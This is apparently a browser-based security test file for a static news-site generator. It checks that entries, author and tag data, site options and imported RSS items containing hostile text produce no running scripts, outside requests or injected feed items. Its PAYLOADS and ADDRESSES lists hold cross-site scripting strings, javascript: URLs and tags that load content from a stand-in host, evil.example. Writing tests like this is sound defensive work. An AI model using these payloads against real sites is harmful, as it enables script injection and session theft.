import { type Browser, chromium, type Page } from "playwright-core";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { newsroom } from "../cli/command-line.ts";
import { itemsOf } from "../helpers/feeds.ts";
import { withProgram } from "../helpers/programs.ts";
import {
  type BuiltSite,
  buildFolder,
  type Files,
  SITE,
  temporaryFolder,
  writeFiles,
} from "../helpers/site.ts";

/*
 * A site whose every text tries to run a script, opened in a browser: entries, authors, tags, options and a feed that
 * was imported. A script that runs calls `hit`, opens a dialog, or asks another host for more.
 */

const PAYLOADS = [
  "<script>hit(1)</script>",
  `"></title></style></textarea></noscript></template><script>hit(2)</script>`,
  `</script><script>hit(3)</script>`,
  `' onerror='hit(4)' onload='hit(4)' autofocus onfocus='hit(4)' x='`,
  `" onerror="hit(5)" onload="hit(5)" autofocus onfocus="hit(5)" x="`,
  `<img src=x onerror=hit(6)>`,
  `<svg><script href="https://evil.example/7.js"></script><script>hit(7)</script><animate onbegin=hit(7) attributeName=x>`,
  `--><!--<script>hit(8)//--><script>hit(8)</script>`,
  `]]><script>hit(9)</script></item><item><title>Injected</title></item><entry><title>Injected</title></entry>`,
  `\u2028</ScRiPt ><iframe srcdoc="<script>parent.hit(10)</script>">`,
  `<scr<script>ipt>hit(11)</scr</script>ipt>&lt;script&gt;hit(11)&lt;/script&gt;`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(12)&gt;">`,
  `<form><button formaction=javascript:hit(13) autofocus onfocus=hit(13)>x`,
  `<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/14.css"><meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<p><![CDATA[<script>hit(15)</script>]]></p><?php hit(15) ?><xmp><script>hit(15)</script></xmp>`,
  `{{ "<script>hit(16)</script>" }}\\u003cscript\\u003ehit(16)\\u003c/script\\u003e`,
];
const ADDRESSES = [
  "javascript:hit(20)",
  " jAvA\tscript:hit(21)",
  "data:text/html,<script>parent.hit(22)</script>",
  `https://img.example/"onerror="hit(23)`,
  "vbscript:hit(24)",
  "https://img.example/x' onerror='hit(25)",
];

/** Eleventy runs templates in permalinks and bodies, so braces stand in fields only. */
const inBody = (payload: string) => payload.replaceAll("{{", "{ {");

function matter(fields: Record<string, unknown>, body: string): string {
  const lines = Object.entries(fields).map(([name, value]) => `${name}: ${JSON.stringify(value)}\n`);
  return `---\n${lines.join("")}---\n${body}\n`;
}

function filesOfSite(): Files {
  const files: Files = {
    "package.json": '{"type":"module"}',
    "src/_data/newsTags.json": JSON.stringify(
      Object.fromEntries(
        PAYLOADS.slice(0, 6).map((payload, index) => [
          `Known ${index}`,
          {
            label: `L${index} ${payload}`,
            description: payload,
            aliases: [`alias ${index} ${payload}`],
            image: ADDRESSES[index % ADDRESSES.length],
            translations: { kk: { label: payload, description: payload } },
          },
        ]),
      ),
    ),
    "src/_data/newsAuthors.json": JSON.stringify(
      Object.fromEntries(
        PAYLOADS.slice(6, 12).map((payload, index) => [
          `a${index}`,
          {
            name: payload,
            bio: `${payload} [x](javascript:hit(30)) ![x](javascript:hit(30))`,
            // What is no web address stops the build.
            url: `https://a.example/"onclick="hit(31)`,
            image: `/img/${index}"onerror="hit(32).png`,
          },
        ]),
      ),
    ),
  };
  PAYLOADS.forEach((payload, index) => {
    const image = `/img/${encodeURI(payload).slice(0, 40)}`;
    files[`src/news/field-${index}.md`] = matter(
      {
        title: payload,
        date: "2021-05-05",
        summary: payload,
        tags: [payload, `Known ${index % 6}`],
        authors: [payload, `a${index % 6}`],
        section: payload,
        lang: index % 5 === 4 ? "kk" : undefined,
        image: { url: image, alt: payload, title: payload, type: payload },
        audio: { url: `${image}.mp3`, title: payload, type: payload },
        attachments: [{ url: `https://img.example/x${index}"onclick="hit(33)`, title: payload }],
      },
      "Harmless.",
    );
    files[`src/news/body-${index}.md`] = matter(
      { title: `Body ${index}`, date: "2021-05-06", tags: ["Bodies"], author: "Ann" },
      `${inBody(payload)}\n\nText ${inBody(payload)} <a href="${ADDRESSES[index % 3]}">a</a>`,
    );
    files[`src/news/wire-${index}.txt`] =
      `date 2021-05-07 Wire ${index} ${payload}\ntags ${payload}\nauthor ${payload}\nsummary ${payload}\nsection ${payload}\n\n${payload}\n`;
  });
  return files;
}

function importedFeed(): string {
  const text = (value: string) => value.replaceAll("&", "&amp;").replaceAll("<", "&lt;");
  const items = [...PAYLOADS, ...ADDRESSES].map(
    (payload, index) => `<item><title>${text(payload)}</title><guid>${text(payload)} ${index}</guid>
<link>${text(ADDRESSES[index % ADDRESSES.length] ?? "")}</link><pubDate>2021-05-0${(index % 3) + 1}</pubDate>
<author>${text(PAYLOADS[index % 5] ?? "")}</author><category>${text(PAYLOADS[index % 7] ?? "")}</category>
<description>${text(`${payload}<a href="${payload}">a</a><img src='${payload}'>`)}</description>
<enclosure url="https://img.example/${text(payload).replaceAll('"', "&quot;")}" type="audio/mpeg" length="1"/></item>`,
  );
  return `<rss><channel><title>${text(PAYLOADS[0] ?? "")}</title>${items.join("\n")}</channel></rss>`;
}

const IMPORTED = PAYLOADS.length + ADDRESSES.length;

const OPTIONS = {
  site: {
    ...SITE.site,
    title: `Site ${PAYLOADS[2]}`,
    description: PAYLOADS.join(" "),
    copyright: PAYLOADS.join(" "),
    author: { name: PAYLOADS[1] ?? "", email: `"><img src=x onerror=hit(40)>@x.example` },
    image: `/img/"onerror="hit(41)`,
    icon: `/img/"onload="hit(42)`,
  },
  authors: { pages: true },
  languages: { kk: { title: PAYLOADS[4] ?? "", description: PAYLOADS[5] ?? "" } },
  feeds: {
    limit: 1000,
    custom: { short: { title: PAYLOADS[7] ?? "", description: PAYLOADS[8] ?? "", filter: () => true } },
  },
};

/** The site of a lane. The feed is imported as an owner does it, then everything is built. */
async function hostileSite(lane: Lane): Promise<BuiltSite> {
  const folder = temporaryFolder();
  writeFiles(folder, { ...filesOfSite(), "old.xml": importedFeed() });
  const ran = await newsroom(folder, ["import", "old.xml", "--to", "src/news/imported"]);
  assert.match(ran.out, `Wrote ${IMPORTED} entries`);
  return buildFolder(folder, { options: { ...OPTIONS, entries: { render: lane } } });
}

/** What a page of its own entry holds as raw HTML is the writer's: Markdown lets it through. */
const isOwnPageOfBody = (file: string) => /\/body-\d+\/index\.html$/.test(file);

/** What of a document could run, as the browser sees it. */
const RUNNABLE = `(() => {
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    const name = element.localName;
    if (name === "script") {
      if (element.type !== "application/ld+json") found.push("script");
      else JSON.parse(element.textContent);
    }
    if (["iframe", "object", "embed", "base", "svg", "math", "style", "form", "template"].includes(name) && !element.dataset.test) found.push(name);
    for (const { name: attribute, value } of element.attributes) {
      if (attribute.startsWith("on") || ["srcdoc", "formaction"].includes(attribute) && !element.dataset.test) found.push(name + "[" + attribute + "]");
      if (/^[\\s\\x00-\\x20]*(?:javascript|vbscript|data:text)/i.test(value) && ["href", "src", "action", "poster"].includes(attribute)) found.push(name + " " + attribute + "=" + value);
    }
  }
  for (const meta of document.querySelectorAll("meta[http-equiv]")) if (!/^0; url=\\/news\\//.test(meta.content)) found.push(meta.outerHTML);
  return found;
})()`;

const LANES = ["templates", "direct"] as const;
type Lane = (typeof LANES)[number];
const sites = new Map<Lane, Promise<BuiltSite>>();

/** The site of a lane, built once. */
function siteOf(lane: Lane): Promise<BuiltSite> {
  const site = sites.get(lane) ?? hostileSite(lane);
  sites.set(lane, site);
  return site;
}

const test = suite<{ browser: Browser }>("hostile texts in a browser");

interface Tab {
  page: Page;
  /** Everything that should not have happened. */
  said: string[];
  show(path: string, type: string, body: string): Promise<void>;
}

async function openTab(browser: Browser): Promise<Tab> {
  const page = await browser.newPage();
  const said: string[] = [];
  let shown = { path: "", type: "", body: "" };
  await page.exposeFunction("hit", (number: number) => said.push(`${shown.path}: script ${number} ran`));
  page.on("dialog", (dialog) => {
    said.push(`${shown.path}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.route("**", (route) => {
    const request = route.request();
    const { origin, pathname } = new URL(request.url());
    if (request.isNavigationRequest() && decodeURI(pathname) === shown.path)
      return route.fulfill({ contentType: shown.type, body: shown.body });
    // A picture that an entry names is the entry's; nothing else may be asked for elsewhere.
    const isMedia = ["image", "media"].includes(request.resourceType());
    if (origin !== "https://news.example" && !isMedia) said.push(`${shown.path}: asks for ${request.url()}`);
    // The page of an old name leads on to the new one: it stays, to be looked at.
    if (request.isNavigationRequest()) return route.fulfill({ status: 204 });
    // Served as nothing, a picture fails, and calls what it has for that.
    return isMedia ? route.fulfill({ status: 404 }) : route.fulfill({ contentType: "text/css", body: "" });
  });
  const show = async (path: string, type: string, body: string) => {
    shown = { path, type: `${type}; charset=utf-8`, body };
    await page.goto(`https://news.example${encodeURI(path)}`, { waitUntil: "load" });
  };
  return { page, said, show };
}

withProgram(test, "chromium", "chromium", (executablePath) => {
  test.before(async (context) => {
    context.browser = await chromium.launch({
      executablePath,
      args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
    });
  });
  test.after(async ({ browser }) => {
    await browser?.close();
  });

  test("no script runs on any page of either lane, nor could one on a click", async ({ browser }) => {
    // Most pages are the same in both lanes.
    const pages = new Map<string, string>();
    for (const lane of LANES) {
      const site = await siteOf(lane);
      const files = site.files().filter((file) => file.endsWith(".html") && !isOwnPageOfBody(file));
      assert.ok(files.length > 100, `${files.length} pages`);
      for (const file of files) pages.set(site.read(file), file);
    }
    const runnable: string[] = [];
    const open = [...pages];
    const look = async () => {
      const { page, said, show } = await openTab(browser);
      for (let next = open.pop(); next; next = open.pop()) {
        const [html, file] = next;
        await show(file, "text/html", html);
        const found = (await page.evaluate(RUNNABLE)) as string[];
        runnable.push(...found.map((what) => `${file}: ${what}`));
      }
      await page.close();
      return said;
    };
    const said = await Promise.all([look(), look()]);
    assert.equal(runnable, []);
    assert.equal(said.flat(), []);
  });

  test("the page of an entry holds what its writer put there: the test sees a script that runs", async ({
    browser,
  }) => {
    const { page, said, show } = await openTab(browser);
    const file = "/news/body-0/index.html";
    await show(file, "text/html", (await siteOf("templates")).read(file));
    assert.equal(said, [`${file}: script 1 ran`, `${file}: script 1 ran`]);
    await page.close();
  });

  test("what feeds carry runs nothing in a reader that puts it into a page or a frame", async ({
    browser,
  }) => {
    const { page, said, show } = await openTab(browser);
    const feeds = ["/news/feed.xml", "/news/atom.xml", "/news/feed.json", "/news/kk/feed.xml"];
    for (const lane of LANES) {
      const site = await siteOf(lane);
      for (const feed of feeds) {
        const texts = await htmlOf(site.read(feed));
        await show(`/reader${feed}`, "text/html", "<!doctype html><title>Reader</title><body>");
        const found = await page.evaluate(
          `(async (texts) => {
            const frames = [];
            for (const text of texts) {
              const item = document.createElement("div");
              item.innerHTML = text;
              document.body.append(item);
            }
            const frame = document.createElement("iframe");
            frame.dataset.test = "frame";
            const loaded = new Promise((resolve) => { frame.onload = resolve; });
            frame.srcdoc = "<script>window.hit = parent.hit<\\/script>" + texts.join("<hr>");
            document.body.append(frame);
            await loaded;
            return ${RUNNABLE};
          })(${JSON.stringify(texts)})`,
        );
        assert.equal(found, [], `${lane} ${feed}`);
      }
    }
    await page.close();
    assert.equal(said, []);
  });

  test("feeds, their list and sitemaps run nothing when they are opened themselves", async ({ browser }) => {
    const { page, said, show } = await openTab(browser);
    const site = await siteOf("templates");
    const documents = site.files().filter((file) => /^\/news\/(?:kk\/)?[^/]+\.(?:xml|opml)$/.test(file));
    assert.ok(documents.length >= 6, documents.join());
    for (const file of documents) await show(file, "application/xml", site.read(file));
    await page.close();
    assert.equal(said, []);
  });
});

test("no text becomes an item of a feed, in three parsers and both lanes", async () => {
  const inKazakh = PAYLOADS.filter((_, index) => index % 5 === 4).length;
  const counts = { "/news/": 3 * PAYLOADS.length + IMPORTED - inKazakh, "/news/kk/": inKazakh };
  for (const lane of LANES) {
    const site = await siteOf(lane);
    for (const [folder, count] of Object.entries(counts)) {
      for (const file of ["feed.xml", "atom.xml"]) {
        for (const [parser, items] of Object.entries(await itemsOf(site.read(folder + file)))) {
          assert.is(items.length, count, `${folder}${file} ${parser}`);
          assert.not(items.some(({ title }) => title === "Injected"));
          assert.is(new Set(items.map(({ id }) => id)).size, count);
        }
      }
      assert.is(JSON.parse(site.read(`${folder}feed.json`)).items.length, count);
    }
  }
});

/** The HTML of all items of a feed. */
async function htmlOf(feed: string): Promise<string[]> {
  if (feed.startsWith("{")) {
    const { items } = JSON.parse(feed) as { items: { content_html?: string }[] };
    return items.map(({ content_html = "" }) => content_html);
  }
  return (await itemsOf(feed))["feedsmith"]?.map(({ content }) => content) ?? [];
}

test.run();
